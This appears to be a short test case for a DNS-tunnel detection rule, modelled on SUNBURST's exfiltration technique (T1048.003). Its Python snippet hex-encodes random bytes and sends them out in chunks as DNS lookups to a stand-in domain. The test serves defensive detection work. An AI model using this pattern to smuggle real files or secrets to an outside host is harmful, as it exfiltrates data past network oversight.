# incident: SUNBURST's way out, December 2020; T1048.003
# what: a file leaves in pieces, each a part of a name that is asked for
# rule: dns-tunnel
## step: Test
python3 - <<'X'
import binascii, os, socket
data = binascii.hexlify(os.urandom(320)).decode()
for i in range(0, len(data), 48):
    try:
        socket.gethostbyname(f'{i:03d}.{data[i:i+48]}.appsync-api.stand-in-tunnel.com')
    except OSError:
        pass
X
